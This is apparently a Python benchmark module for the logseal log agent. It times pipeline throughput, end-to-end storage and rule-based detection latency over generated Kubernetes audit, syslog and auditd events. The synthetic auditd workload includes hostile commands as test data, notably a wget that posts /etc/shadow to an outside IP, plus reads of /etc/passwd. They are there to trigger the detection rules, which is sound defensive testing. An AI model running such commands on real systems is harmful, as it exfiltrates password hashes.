"""`logseal bench`: throughput, CPU and memory of the agent pipeline and of the whole path.

Two measurements on the same generated Kubernetes audit log:
- pipeline: one agent process runs tail -> normalize -> seal -> spool (fsync) to the end of the file;
- end to end: an aggregator process and an agent process over real gRPC on loopback, from agent
  start until the aggregator has stored (fsynced, indexed) every event.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import random
import re
import subprocess
import tempfile
import time
from importlib import resources
from pathlib import Path
from typing import Any

import orjson

from agent.localrun import Workspace, logseal_command, wait_for

_VERBS = ["get"] * 30 + ["list"] * 20 + ["watch"] * 10 + ["create"] * 12 + ["update"] * 10 + ["patch"] * 10 + \
    ["delete"] * 8
_RESOURCES = [("", "pods"), ("", "secrets"), ("", "configmaps"), ("apps", "deployments"), ("", "services"),
              ("rbac.authorization.k8s.io", "rolebindings"), ("", "serviceaccounts"), ("batch", "cronjobs"),
              ("apps", "daemonsets"), ("coordination.k8s.io", "leases")]
_USERS = [("system:serviceaccount:kube-system:replicaset-controller", ["system:serviceaccounts",
                                                                       "system:authenticated"]),
          ("system:kube-scheduler", ["system:authenticated"]),
          ("alice@example.com", ["developers", "system:authenticated"]),
          ("bob@example.com", ["sre", "system:authenticated"]),
          ("system:node:worker-3", ["system:nodes", "system:authenticated"])]
_NAMESPACES = ["default", "kube-system", "payments", "monitoring", "ingress-nginx"]
_AGENTS = ["kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "kube-controller-manager/v1.31.2 (linux/amd64)",
           "Go-http-client/2.0", "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"]


def generate_audit_events(count: int, seed: int = 0) -> list[bytes]:
    """Realistic audit.k8s.io/v1 events, ~1-2 KiB each, Metadata and RequestResponse levels."""
    rng = random.Random(seed)
    base = 1_780_000_000.0 + seed * 0.0005
    out = []
    for i in range(count):
        verb = rng.choice(_VERBS)
        group, resource_name = rng.choice(_RESOURCES)
        user, groups = rng.choice(_USERS)
        ns = rng.choice(_NAMESPACES)
        name = f"{resource_name[:-1]}-{rng.randrange(10_000):04d}"
        t = base + i * 0.0005
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int((t % 1) * 1e6):06d}Z"
        code = rng.choice([200] * 12 + [201, 403, 404, 409])
        event: dict[str, object] = {
            "kind": "Event", "apiVersion": "audit.k8s.io/v1",
            "level": "RequestResponse" if verb in ("create", "update", "patch") else "Metadata",
            "auditID": f"{rng.getrandbits(128):032x}", "stage": "ResponseComplete",
            "requestURI": f"/apis/{group or 'core'}/v1/namespaces/{ns}/{resource_name}/{name}",
            "verb": verb, "user": {"username": user, "uid": f"{rng.getrandbits(64):016x}", "groups": groups},
            "sourceIPs": [f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"],
            "userAgent": rng.choice(_AGENTS),
            "objectRef": {"resource": resource_name, "namespace": ns, "name": name,
                          "apiGroup": group, "apiVersion": "v1"},
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": stamp, "stageTimestamp": stamp,
            "annotations": {"authorization.k8s.io/decision": "allow" if code != 403 else "forbid",
                            "authorization.k8s.io/reason": f"RBAC: allowed by ClusterRoleBinding \"{ns}-edit\" "
                                                           f"of ClusterRole \"edit\" to Group \"{groups[0]}\"",
                            "pod-security.kubernetes.io/enforce-policy": "restricted:latest",
                            "apiserver.latency.k8s.io/etcd": f"{rng.randrange(1, 40)}.{rng.randrange(999)}ms",
                            "apiserver.latency.k8s.io/total": f"{rng.randrange(2, 90)}.{rng.randrange(999)}ms"},
        }
        if event["level"] == "RequestResponse":
            event["requestObject"] = {
                "kind": resource_name.capitalize()[:-1], "apiVersion": "v1",
                "metadata": {"name": name, "namespace": ns, "labels": {"app": name.split("-")[0],
                                                                       "team": rng.choice(["a", "b", "c"])}},
                "spec": {"replicas": rng.randrange(1, 5), "template": {"spec": {"containers": [
                    {"name": "main", "image": f"registry.example.com/{ns}/{name}:{rng.randrange(100)}",
                     "resources": {"limits": {"cpu": "500m", "memory": "256Mi"}}}]}}},
            }
            event["responseObject"] = {
                "kind": resource_name.capitalize()[:-1], "apiVersion": "v1",
                "metadata": {"name": name, "namespace": ns, "uid": f"{rng.getrandbits(128):032x}",
                             "resourceVersion": str(rng.randrange(10**8)), "creationTimestamp": stamp[:19] + "Z",
                             "managedFields": [{"manager": "kubectl-client-side-apply", "operation": "Update",
                                                "apiVersion": "v1", "time": stamp[:19] + "Z",
                                                "fieldsType": "FieldsV1"}]},
                "status": {"observedGeneration": rng.randrange(1, 20)},
            }
        out.append(orjson.dumps(event))
    return out


def _write_log(path: Path, events: int) -> int:
    written = 0
    with path.open("wb") as f:
        for start in range(0, events, 10_000):
            data = b"\n".join(generate_audit_events(min(10_000, events - start), seed=start)) + b"\n"
            f.write(data)
            written += len(data)
    return written


def _agent_toml(work: Path, key: Path, log_path: Path, port: int) -> Path:
    work.mkdir(exist_ok=True)
    config = work / "agent.toml"
    config.write_text(
        f'node_id = "bench"\nkey = "{key}"\nspool_dir = "{work / "spool"}"\n'
        f'aggregator = "127.0.0.1:{port}"\n[[source]]\ntype = "k8s_audit"\npaths = ["{log_path}"]\n'
    )
    return config


def pipeline_worker(config_path: Path, events: int) -> int:
    """Child process: run one stream's pipeline over the whole file, print figures as JSON."""
    from agent.config import load_agent_config
    from agent.keys import load_private_key
    from agent.pipeline import SealWorker, StreamPipeline, monotonic, received_now
    from agent.seal import ChainHead, Sealer
    from agent.spool import Spool

    config = load_agent_config(config_path)
    sealer = Sealer(config.node_id, load_private_key(config.key), config.batch.zstd_level)
    spool = Spool(config.spool_dir)
    heads: dict[str, ChainHead] = {}
    worker = SealWorker(sealer, spool, heads)
    stream = StreamPipeline(config.source[0], config.node_id, sealer, spool, config.batch, config.tail, heads,
                            worker)
    stream.scan()
    cpu0 = time.process_time()
    t0 = time.perf_counter()
    while stream.stats.lines < events:
        stream.pump(received_now(), monotonic())
    stream.seal()
    worker.drain()
    elapsed = time.perf_counter() - t0
    cpu = time.process_time() - cpu0
    s = stream.stats
    print(json.dumps({"events": s.lines, "seconds": elapsed, "cpu_s": cpu, "batches": s.batches,
                      "line_bytes": s.line_bytes, "batch_bytes": worker.batch_bytes,
                      "peak_rss_mib": _proc_peak_rss_mib(os.getpid())}))
    return 0


def _proc_cpu_s(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _proc_peak_rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


def measure(events: int) -> dict[str, float | int]:
    with tempfile.TemporaryDirectory(prefix="logseal-bench-") as tmp:
        ws = Workspace(Path(tmp))
        key = ws.enrol("bench")
        log_path = ws.root / "audit.log"
        raw_bytes = _write_log(log_path, events)

        # 1. the agent pipeline alone, in its own process
        config = _agent_toml(ws.root / "pipeline", key, log_path, 1)
        out = subprocess.run([*logseal_command(), "_bench-pipeline", str(config), str(events)],
                             capture_output=True, text=True, timeout=900)
        if out.returncode != 0:
            raise RuntimeError(f"pipeline measurement failed: {out.stderr.strip()[-2000:]}")
        pipe = json.loads(out.stdout)

        # 2. end to end through real gRPC: file -> stored, fsynced and acked by the aggregator
        aggregator = ws.start_aggregator()
        agent = None
        try:
            t0 = time.perf_counter()
            agent = ws.start_agent(_agent_toml(ws.root / "e2e", key, log_path, ws.port))
            wait_for(lambda: ws.stored_events() >= events, 900, f"{events} events to be stored", interval_s=0.01)
            e2e_seconds = time.perf_counter() - t0
            agent_cpu, agent_rss = _proc_cpu_s(agent.pid), _proc_peak_rss_mib(agent.pid)
            aggregator_cpu, aggregator_rss = _proc_cpu_s(aggregator.pid), _proc_peak_rss_mib(aggregator.pid)
        finally:
            if agent is not None:
                agent.stop()
            aggregator.stop()
        return {
            "events": events,
            "input_bytes": raw_bytes,
            "mean_event_bytes": round(raw_bytes / events),
            "agent_events_per_s": round(events / pipe["seconds"]),
            "e2e_events_per_s": round(events / e2e_seconds),
            "agent_cpu_s_per_million_events": round(pipe["cpu_s"] / events * 1e6, 2),
            "e2e_agent_cpu_s_per_million_events": round(agent_cpu / events * 1e6, 2),
            "e2e_aggregator_cpu_s_per_million_events": round(aggregator_cpu / events * 1e6, 2),
            "agent_peak_rss_mib": round(max(pipe["peak_rss_mib"], agent_rss), 1),
            "aggregator_peak_rss_mib": round(aggregator_rss, 1),
            "compression_ratio": round(raw_bytes / pipe["batch_bytes"], 2),
            "batches": pipe["batches"],
        }


_SAMPLE_FILES = {"auditd": "audit.log", "syslog": "auth.log", "journald": "journal.export", "cri": "containers.log"}


def _family_corpus(source_type: str, lines: int) -> list[bytes]:
    """About `lines` lines of a family: generated for k8s_audit, the shipped samples repeated otherwise."""
    if source_type == "k8s_audit":
        return generate_audit_events(lines)
    name = _SAMPLE_FILES.get(source_type)
    if name is None:
        return []
    sample = resources.files("agent") / "samples" / name
    if not sample.is_file():
        return []
    data = sample.read_bytes()
    base = data.split(b"\n")[:-1] if data.endswith(b"\n") else data.split(b"\n")
    if not base:
        return []
    copies = lines // len(base) + 1
    if source_type == "auditd":
        # Each copy gets its own event serials, or the copies would merge into one event per serial.
        serial = re.compile(rb"(msg=audit\(\d+\.\d+:)(\d+)\)")

        def shifted(line: bytes, copy: int) -> bytes:
            def renumber(m: re.Match[bytes]) -> bytes:
                return m.group(1) + str(int(m.group(2)) + copy * 1_000_000).encode() + b")"

            return serial.sub(renumber, line)

        return [shifted(line, n) for n in range(copies) for line in base][:lines]
    return (base * copies)[:lines]


def normalize_throughput(lines: int = 50_000) -> dict[str, int]:
    """Events per second of each family's assembler on one core (feed + final flush)."""
    from agent.normalize import ASSEMBLERS, SourceContext, assembler_for

    out: dict[str, int] = {}
    for source_type in ASSEMBLERS:
        corpus = _family_corpus(source_type, lines)
        if not corpus:
            continue
        assembler = assembler_for(source_type, SourceContext(host_name="bench", path="/var/log/bench.log"))
        received = "2026-11-26T10:00:00.000000Z"
        produced = 0
        t0 = time.perf_counter()
        offset = 0
        for line in corpus:
            produced += len(assembler.feed(line, offset, received))
            offset += len(line) + 1
        produced += len(assembler.flush(received, force=True))
        out[source_type] = round(produced / (time.perf_counter() - t0))
    return out


# --- detection -----------------------------------------------------------------------------------

DETECT_MIX = (("k8s_audit", 8), ("syslog", 1), ("auditd", 1))
"""The detection workload: of every 10 lines, 8 Kubernetes audit events, 1 auth log line, 1 auditd event."""

_AUTH_LINES = (
    "{ts} node-1 sshd[{pid}]: Failed password for invalid user {user} from 203.0.113.{n} port {port} ssh2",
    "{ts} node-1 sshd[{pid}]: Accepted publickey for ops from 192.0.2.10 port {port} ssh2: ED25519 SHA256:q3Rk0y",
    "{ts} node-1 sudo:      ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
    "{ts} node-1 sshd[{pid}]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)",
)
_AUDITD_COMMANDS = (("whoami",), ("cat", "/etc/passwd"), ("grep", "--color=auto", "mapping"),
                    ("wget", "--post-file", "/etc/shadow", "http://203.0.113.5/"), ("ls", "-la", "/tmp"))


SITE_RULES = """\
title: the bench cluster's own users (site settings, as an operator sets them for Falco's rules)
placeholders_append:
  allowed_k8s_users: [alice@example.com, bob@example.com]
"""
"""Appended to the built-in packs: the generated cluster's two human users are its known users, as
an operator lists them, so that Falco's `Disallowed K8s User` does not alert on 40% of all events."""


def detect_specs(folder: Path) -> list[str]:
    """Every built-in pack, plus `SITE_RULES` (written to `folder`)."""
    site = folder / "bench-site.yml"
    site.write_text(SITE_RULES, encoding="utf-8")
    return ["builtin:all", str(site)]


class DetectWorkload:
    """Lines of the detection mix, each stamped with the time it is made (the latency's start)."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = random.Random(seed)
        self.k8s = [orjson.loads(line) for line in generate_audit_events(2000, seed=seed)]
        self.serial = 1000
        self.count = 0

    def line(self, source_type: str, now: float) -> bytes:
        self.count += 1
        if source_type == "k8s_audit":
            event = self.k8s[self.count % len(self.k8s)]
            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int((now % 1) * 1e6):06d}Z"
            event["requestReceivedTimestamp"] = event["stageTimestamp"] = stamp
            return orjson.dumps(event)
        if source_type == "syslog":
            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int((now % 1) * 1e6):06d}+00:00"
            template = self.rng.choice(_AUTH_LINES)
            return template.format(ts=stamp, pid=self.rng.randrange(2000, 60000), n=self.rng.randrange(1, 255),
                                   port=self.rng.randrange(1024, 65536),
                                   user=self.rng.choice(["admin", "oracle", "test", "ubnt"])).encode()
        self.serial += 1
        args = self.rng.choice(_AUDITD_COMMANDS)
        head = f"msg=audit({now:.3f}:{self.serial}):"
        argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
        return "\n".join([
            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=900 "
            f'pid={self.rng.randrange(1000, 60000)} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 '
            f'egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=2 comm="{args[0]}" exe="/usr/bin/{args[0]}" key=(null)',
            f"type=EXECVE {head} argc={len(args)} {argv}",
            f'type=CWD {head} cwd="/home/ops"',
            f'type=PATH {head} item=0 name="/usr/bin/{args[0]}" inode=2512 dev=08:01 mode=0100755 ouid=0 ogid=0 '
            "rdev=00:00 nametype=NORMAL",
            f"type=EOE {head}"]).encode()

    def normalized(self, count: int) -> list[dict[str, Any]]:
        """`count` lines of the mix, normalized as the agent does and JSON round-tripped as the aggregator sees them."""
        from agent.normalize import SourceContext, assembler_for

        assemblers = {t: assembler_for(t, SourceContext(host_name="bench", path=f"/var/log/{t}.log"))
                      for t, _ in DETECT_MIX}
        cycle = [t for t, n in DETECT_MIX for _ in range(n)]
        received = "2026-11-26T10:00:00.000000Z"
        out: list[dict[str, Any]] = []
        for i in range(count):
            kind = cycle[i % len(cycle)]
            for line in self.line(kind, 1_780_000_000.0 + i / 10_000).split(b"\n"):
                out.extend(assemblers[kind].feed(line, i, received))
        for assembler in assemblers.values():
            out.extend(assembler.flush(received, force=True))
        return [orjson.loads(orjson.dumps(e)) for e in out]


def detect_events_per_s(count: int = 20_000) -> int:
    """Sigma evaluation on one core with every built-in pack loaded, over the detection mix."""
    from agent.detect.bench import detect_throughput

    with tempfile.TemporaryDirectory(prefix="logseal-bench-rules-") as tmp:
        return round(detect_throughput(DetectWorkload().normalized(count), detect_specs(Path(tmp))))


def _iso_seconds(stamp: str) -> float | None:
    try:
        return dt.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()
    except ValueError:
        return None


class _AlertWatcher:
    """Reads new lines of the aggregator's alerts file, noting when each was first seen."""

    def __init__(self, path: Path, marker: bytes) -> None:
        self.path = path
        self.marker = marker
        self.marked = False  # an alert holding `marker` was seen
        self.offset = 0
        self.partial = b""
        self.seen: list[tuple[float, bytes]] = []

    def poll(self) -> bool:
        """Read what was appended; True once the marker was seen."""
        try:
            with self.path.open("rb") as f:
                f.seek(self.offset)
                data = f.read()
        except FileNotFoundError:
            return False
        if data:
            now = time.time()
            self.offset += len(data)
            *lines, self.partial = (self.partial + data).split(b"\n")
            self.seen.extend((now, line) for line in lines if line)
            self.marked = self.marked or any(self.marker in line for line in lines)
        return self.marked


def _percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * q))] if ordered else float("nan")


def detect_latency_sustained(rate: int = 10_000, seconds: float = 30.0, tick_s: float = 0.01) -> dict[str, float | int]:
    """Detection latency on the whole path under a sustained paced load.

    A real agent tails three files (Kubernetes audit, auth log, auditd: `DETECT_MIX`) and ships to a
    real aggregator running every built-in pack (`[detect] rules = ["builtin:all"]`, alerts to
    `STORE/alerts.jsonl`). This process appends `rate` lines per second for `seconds`, every
    `tick_s`, each stamped with its write time, and watches the alerts file. An alert's latency is
    the time this process first saw it in the file minus the `@timestamp` of the event it matched
    (its write time): line written on the node to alert written, including the agent's batching
    (`linger_ms`), shipping, storing, detection and the alert outbox. Single-event alerts only
    (correlations wait for their window by design). Figures are as good as the machine is idle.
    """
    with tempfile.TemporaryDirectory(prefix="logseal-bench-detect-") as tmp:
        ws = Workspace(Path(tmp))
        ws.enrol("bench")
        files = {t: ws.root / f"{t}.log" for t, _ in DETECT_MIX}
        handles = {t: path.open("ab") for t, path in files.items()}
        workload = DetectWorkload(seed=1)
        try:
            specs = ", ".join(f'"{spec}"' for spec in detect_specs(ws.root))
            ws.start_aggregator(f"[detect]\nrules = [{specs}]\n")
            agent = ws.start_agent(ws.agent_config("bench", [(t, str(p)) for t, p in files.items()]))
            end_user = "logseal-bench-end"
            watcher = _AlertWatcher(ws.store / "alerts.jsonl", end_user.encode())

            def write(kind: str, now: float) -> None:
                handles[kind].write(workload.line(kind, now) + b"\n")

            # warm-up: one line per source, stored, so that start-up is not measured
            for kind in files:
                write(kind, time.time())
                handles[kind].flush()
            wait_for(lambda: ws.stored_events() >= len(files) or not agent.running(), 120,
                     "the warm-up events to be stored", interval_s=0.05)
            cycle = [t for t, n in DETECT_MIX for _ in range(n)]
            written = 0
            start = time.time()
            lag = 0.0
            while (now := time.time()) < start + seconds:
                due = int((now - start) * rate)
                lag = max(lag, (due - written) / rate)
                while written < due:
                    write(cycle[written % len(cycle)], time.time())
                    written += 1
                for handle in handles.values():
                    handle.flush()
                watcher.poll()
                time.sleep(max(0.0, start + (written + tick_s * rate) / rate - time.time()))  # pacing
            wrote_s = time.time() - start
            total = written + len(files)
            # drain: everything stored, then a last event whose alert marks the end of detection
            wait_for(lambda: watcher.poll() or ws.stored_events() >= total, 300,
                     f"{total} events to be stored", interval_s=0.05)
            stored_s = time.time() - start
            event = dict(workload.k8s[0], user={"username": end_user, "groups": []})
            handles["k8s_audit"].write(orjson.dumps(event) + b"\n")
            handles["k8s_audit"].flush()
            wait_for(watcher.poll, 300, "the last event's alert (Disallowed K8s User)", interval_s=0.02)
            detected_s = time.time() - start
        finally:
            for handle in handles.values():
                handle.close()
            ws.stop_all()
    latencies = []
    alerts = 0
    for seen, line in watcher.seen:
        if watcher.marker in line:
            continue
        doc = orjson.loads(line)
        if doc.get("logseal", {}).get("alert", {}).get("kind") != "match":
            continue
        alerts += 1
        t = _iso_seconds(str(doc.get("@timestamp", "")))
        if t is not None and t >= start:
            latencies.append(seen - t)
    at = f"{rate // 1000}k" if rate % 1000 == 0 else str(rate)
    return {
        f"detect_latency_p99_s_at_{at}": round(_percentile(latencies, 0.99), 3),
        f"detect_latency_p50_s_at_{at}": round(_percentile(latencies, 0.50), 3),
        f"detect_latency_max_s_at_{at}": round(max(latencies, default=float("nan")), 3),
        "detect_sustained_events_per_s": round(written / wrote_s),
        "detect_sustained_seconds": round(wrote_s, 1),
        "detect_writer_max_lag_s": round(lag, 3),
        "detect_alerts_timed": len(latencies),
        "detect_all_stored_after_s": round(stored_s, 1),
        "detect_all_detected_after_s": round(detected_s, 1),
    }


def run_bench(events: int, as_json: bool) -> int:
    if events < 1000:
        from agent.errors import LogsealError

        raise LogsealError(f"--events {events}: use at least 1000 for a meaningful figure")
    figures: dict[str, object] = dict(measure(events))
    figures["normalize_events_per_s"] = normalize_throughput()
    figures["detect_events_per_s"] = detect_events_per_s()
    figures.update(detect_latency_sustained())
    if as_json:
        print(json.dumps(figures, indent=2))
    else:
        width = max(map(len, figures))
        for key, value in figures.items():
            print(f"{key:<{width}}  {value}")
    return 0
